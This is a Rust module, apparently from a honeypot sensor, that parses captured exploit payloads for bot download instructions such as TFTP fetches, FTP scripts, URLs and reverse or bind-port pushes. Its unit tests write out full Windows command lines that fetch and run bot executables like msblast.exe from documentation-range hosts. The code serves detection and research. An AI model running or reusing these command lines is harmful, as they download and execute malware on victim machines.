//! Download instructions found in exploit payloads.
//!
//! Bots of the study's era carried a shell command after the exploit that
//! told the victim where to fetch the bot: `tftp -i HOST GET FILE`, an FTP
//! script built with `echo open HOST PORT > o&echo user ...`, an HTTP or FTP
//! URL, or a "connect back to me on port N" push. This module finds them in
//! raw payload bytes. It is a pure function: no I/O, bounded work.

use serde::Serialize;
use std::net::Ipv4Addr;

/// How the payload asks the victim to obtain the binary.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
#[serde(tag = "method", rename_all = "snake_case")]
pub enum DownloadInstruction {
    /// `tftp -i HOST GET FILE`.
    Tftp {
        /// Server named in the command.
        host: String,
        /// File to fetch.
        file: String,
    },
    /// An FTP script: `echo open HOST PORT`, `user U P`, `get FILE`.
    Ftp {
        /// Server.
        host: String,
        /// Control port (21 when absent).
        port: u16,
        /// User name, when the script gives one.
        user: Option<String>,
        /// Password, when the script gives one.
        password: Option<String>,
        /// File to fetch.
        file: String,
    },
    /// `http://HOST[:PORT]/PATH`.
    Http {
        /// Server.
        host: String,
        /// Port.
        port: u16,
        /// Path with query.
        path: String,
    },
    /// `ftp://[user:pass@]HOST[:PORT]/PATH`.
    FtpUrl {
        /// Server.
        host: String,
        /// Port.
        port: u16,
        /// User name.
        user: Option<String>,
        /// Password.
        password: Option<String>,
        /// Path.
        path: String,
    },
    /// Reverse connection: the victim is told to connect back to the
    /// attacker on a port ("connect to me on port N") and receives the
    /// binary there. The sensor connects and reads until close.
    Push {
        /// Port on the attacker.
        port: u16,
    },
    /// TCP push from the infector: the payload opens a port on the victim
    /// ("bindport N", "bind shell on port N") and the attacker connects to
    /// it and sends the binary. The sensor listens there for the attacker.
    BindPort {
        /// Port the sensor opens.
        port: u16,
    },
}

impl DownloadInstruction {
    /// The host the instruction points at (`None` for a push, which always
    /// goes to the attacker).
    pub fn host(&self) -> Option<&str> {
        match self {
            DownloadInstruction::Tftp { host, .. }
            | DownloadInstruction::Ftp { host, .. }
            | DownloadInstruction::Http { host, .. }
            | DownloadInstruction::FtpUrl { host, .. } => Some(host),
            DownloadInstruction::Push { .. } | DownloadInstruction::BindPort { .. } => None,
        }
    }

    /// Short name of the transfer protocol (`tftp`, `ftp`, `http`,
    /// `reverse`, `bindport`).
    pub fn method(&self) -> &'static str {
        match self {
            DownloadInstruction::Tftp { .. } => "tftp",
            DownloadInstruction::Ftp { .. } | DownloadInstruction::FtpUrl { .. } => "ftp",
            DownloadInstruction::Http { .. } => "http",
            DownloadInstruction::Push { .. } => "reverse",
            DownloadInstruction::BindPort { .. } => "bindport",
        }
    }

    /// The study's Table 8 copy method: `tftp_get` (the victim fetches from
    /// the infector by TFTP), `tcp_push` (the infector connects and sends),
    /// `reverse_connect` (the victim connects back to the infector). FTP
    /// and HTTP fetches from the infector count as reverse connections: the
    /// victim opens the connection.
    pub fn copy_method(&self) -> &'static str {
        match self {
            DownloadInstruction::Tftp { .. } => "tftp_get",
            DownloadInstruction::BindPort { .. } => "tcp_push",
            _ => "reverse_connect",
        }
    }
}

/// At most this many payload bytes are searched.
pub const MAX_SCAN: usize = 1 << 20;
/// At most this many instructions are returned per payload.
pub const MAX_INSTRUCTIONS: usize = 16;

/// Finds every download instruction in `payload`, in the order they appear.
///
/// Payloads carry commands as ASCII or, inside DCE-RPC strings, as
/// UTF-16LE; both readings are searched.
pub fn find_instructions(payload: &[u8]) -> Vec<DownloadInstruction> {
    let payload = &payload[..payload.len().min(MAX_SCAN)];
    let ascii: String = payload
        .iter()
        .map(|&b| {
            if (0x20..0x7f).contains(&b) {
                b as char
            } else {
                '\n'
            }
        })
        .collect();
    // UTF-16LE text: drop the zero high bytes, keep everything else.
    let wide: String = payload
        .iter()
        .filter(|&&b| b != 0)
        .map(|&b| {
            if (0x20..0x7f).contains(&b) {
                b as char
            } else {
                '\n'
            }
        })
        .collect();
    let mut found = scan_text(&ascii);
    for i in scan_text(&wide) {
        if !found.contains(&i) {
            found.push(i);
        }
    }
    found.truncate(MAX_INSTRUCTIONS);
    found
}

fn scan_text(text: &str) -> Vec<DownloadInstruction> {
    let lower = text.to_ascii_lowercase();
    let mut found: Vec<(usize, DownloadInstruction)> = Vec::new();
    for (at, _) in lower.match_indices("tftp") {
        if let Some(i) = parse_tftp(&text[at..]) {
            found.push((at, i));
        }
    }
    for (at, _) in lower.match_indices("echo open ") {
        if let Some(i) = parse_ftp_script(&text[at..], &lower[at..]) {
            found.push((at, i));
        }
    }
    for (at, _) in lower.match_indices("http://") {
        if let Some(i) = parse_http_url(&text[at + 7..]) {
            found.push((at, i));
        }
    }
    for (at, _) in lower.match_indices("ftp://") {
        if let Some(i) = parse_ftp_url(&text[at + 6..]) {
            found.push((at, i));
        }
    }
    for key in ["connect to me on port ", "connect back on port "] {
        for (at, _) in lower.match_indices(key) {
            if let Some(port) = leading_port(&text[at + key.len()..]) {
                found.push((at, DownloadInstruction::Push { port }));
            }
        }
    }
    for key in ["bindport ", "bind shell on port "] {
        for (at, _) in lower.match_indices(key) {
            if let Some(port) = leading_port(&text[at + key.len()..]) {
                found.push((at, DownloadInstruction::BindPort { port }));
            }
        }
    }
    found.sort_by_key(|(at, _)| *at);
    found.dedup_by(|a, b| a.1 == b.1);
    found.into_iter().map(|(_, i)| i).collect()
}

fn tokens(s: &str) -> impl Iterator<Item = &str> {
    s.split(|c: char| c.is_whitespace() || c == '&' || c == '|' || c == '>' || c == ';')
        .filter(|t| !t.is_empty())
}

/// `tftp[.exe] -i HOST get FILE` (flags and case vary).
fn parse_tftp(s: &str) -> Option<DownloadInstruction> {
    let line = s.lines().next()?;
    let mut t = tokens(line).take(8);
    let first = t.next()?.to_ascii_lowercase();
    if first != "tftp" && first != "tftp.exe" {
        return None;
    }
    let mut rest: Vec<&str> = t.collect();
    rest.retain(|w| !w.starts_with('-'));
    let get = rest.iter().position(|w| w.eq_ignore_ascii_case("get"))?;
    if get == 0 {
        return None;
    }
    let host = valid_host(rest[get - 1])?;
    let file = rest.get(get + 1)?;
    Some(DownloadInstruction::Tftp {
        host,
        file: file.trim_matches('"').to_string(),
    })
}

/// `echo open HOST PORT > o&echo user U P >> o&echo binary >> o&echo get FILE >> o...`
fn parse_ftp_script(s: &str, lower: &str) -> Option<DownloadInstruction> {
    let window = &s[..s.len().min(1024)];
    let lwindow = &lower[..window.len()];
    let mut after_open = tokens(&window["echo open ".len()..]);
    let host = valid_host(after_open.next()?)?;
    let port = after_open
        .next()
        .and_then(|p| p.parse::<u16>().ok())
        .unwrap_or(21);
    let (mut user, mut password, mut file) = (None, None, None);
    for (at, _) in lwindow.match_indices("echo ") {
        let mut words = tokens(&window[at + 5..]);
        match words.next().map(|w| w.to_ascii_lowercase()).as_deref() {
            Some("user") => {
                user = words.next().map(str::to_string);
                password = words.next().map(str::to_string);
            }
            Some("get") | Some("recv") => {
                file = file.or_else(|| words.next().map(str::to_string));
            }
            Some(w) if user.is_none() && w != "open" && w != "binary" && w != "bye" => {
                // Scripts often give the user name as a bare line.
                user = Some(window[at + 5..at + 5 + w.len()].to_string());
                if let Some(p) = find_bare_password(&window[at + 5 + w.len()..]) {
                    password = Some(p);
                }
            }
            _ => {}
        }
    }
    Some(DownloadInstruction::Ftp {
        host,
        port,
        user,
        password,
        file: file?,
    })
}

fn find_bare_password(rest: &str) -> Option<String> {
    let lower = rest.to_ascii_lowercase();
    let at = lower.find("echo ")?;
    let w = tokens(&rest[at + 5..]).next()?;
    let lw = w.to_ascii_lowercase();
    (lw != "get" && lw != "binary" && lw != "bye" && lw != "user").then(|| w.to_string())
}

fn split_host_port(authority: &str, default: u16) -> Option<(String, u16)> {
    match authority.rsplit_once(':') {
        Some((h, p)) => Some((valid_host(h)?, p.parse().ok()?)),
        None => Some((valid_host(authority)?, default)),
    }
}

fn url_end(s: &str) -> usize {
    s.find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '<' || c == '>')
        .unwrap_or(s.len())
}

fn parse_http_url(s: &str) -> Option<DownloadInstruction> {
    let url = &s[..url_end(s)];
    let (authority, path) = match url.find('/') {
        Some(i) => (&url[..i], &url[i..]),
        None => (url, "/"),
    };
    let (host, port) = split_host_port(authority, 80)?;
    Some(DownloadInstruction::Http {
        host,
        port,
        path: path.to_string(),
    })
}

fn parse_ftp_url(s: &str) -> Option<DownloadInstruction> {
    let url = &s[..url_end(s)];
    let (authority, path) = url.split_once('/')?;
    let (creds, hostport) = match authority.rsplit_once('@') {
        Some((c, h)) => (Some(c), h),
        None => (None, authority),
    };
    let (user, password) = match creds.map(|c| c.split_once(':').unwrap_or((c, ""))) {
        Some((u, p)) => (Some(u.to_string()), Some(p.to_string())),
        None => (None, None),
    };
    let (host, port) = split_host_port(hostport, 21)?;
    Some(DownloadInstruction::FtpUrl {
        host,
        port,
        user,
        password,
        path: format!("/{path}"),
    })
}

fn leading_port(s: &str) -> Option<u16> {
    let digits: String = s.chars().take_while(|c| c.is_ascii_digit()).collect();
    digits.parse().ok().filter(|p| *p != 0)
}

/// A host token: a dotted IPv4 address or a plausible DNS name.
fn valid_host(h: &str) -> Option<String> {
    let h = h.trim_matches(|c| c == '"' || c == '\'');
    if h.is_empty() || h.len() > 253 {
        return None;
    }
    if h.parse::<Ipv4Addr>().is_ok() {
        return Some(h.to_string());
    }
    let ok = h.contains('.')
        && h.split('.').all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
        });
    ok.then(|| h.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_tftp_command_in_binary_payload() {
        let mut p = vec![0x90u8; 64];
        p.extend_from_slice(b"cmd /c tftp -i 192.0.2.7 GET msblast.exe&start msblast.exe\r\n");
        assert_eq!(
            find_instructions(&p),
            vec![DownloadInstruction::Tftp {
                host: "192.0.2.7".into(),
                file: "msblast.exe".into()
            }]
        );
    }

    #[test]
    fn finds_ftp_script() {
        let p = b"cmd /c echo open 198.51.100.9 6721 > o&echo user 1 1 >> o &echo get bot.exe >> o &echo bye >> o &ftp -n -v -s:o &del o &bot.exe";
        assert_eq!(
            find_instructions(p),
            vec![DownloadInstruction::Ftp {
                host: "198.51.100.9".into(),
                port: 6721,
                user: Some("1".into()),
                password: Some("1".into()),
                file: "bot.exe".into()
            }]
        );
    }

    #[test]
    fn finds_urls_and_push() {
        let p = b"GET x http://203.0.113.5:8080/a/b.exe ftp://u:p@203.0.113.6/x.exe connect to me on port 4444 bindport 5555";
        let got = find_instructions(p);
        assert_eq!(
            got,
            vec![
                DownloadInstruction::Http {
                    host: "203.0.113.5".into(),
                    port: 8080,
                    path: "/a/b.exe".into()
                },
                DownloadInstruction::FtpUrl {
                    host: "203.0.113.6".into(),
                    port: 21,
                    user: Some("u".into()),
                    password: Some("p".into()),
                    path: "/x.exe".into()
                },
                DownloadInstruction::Push { port: 4444 },
                DownloadInstruction::BindPort { port: 5555 },
            ]
        );
        assert_eq!(got[2].copy_method(), "reverse_connect");
        assert_eq!(got[3].copy_method(), "tcp_push");
    }

    #[test]
    fn finds_utf16_command() {
        let mut p = b"\x05\x00\x00\x03".to_vec();
        for c in "\\\\AAAA\\C$\\cmd /c tftp -i 192.0.2.7 GET a.exe".encode_utf16() {
            p.extend_from_slice(&c.to_le_bytes());
        }
        assert_eq!(
            find_instructions(&p),
            vec![DownloadInstruction::Tftp {
                host: "192.0.2.7".into(),
                file: "a.exe".into()
            }]
        );
    }

    #[test]
    fn ignores_garbage_and_bad_hosts() {
        assert!(find_instructions(b"tftp -i GET").is_empty());
        assert!(find_instructions(b"http://:99999/").is_empty());
        assert!(find_instructions(&vec![0xffu8; 4096]).is_empty());
    }
}
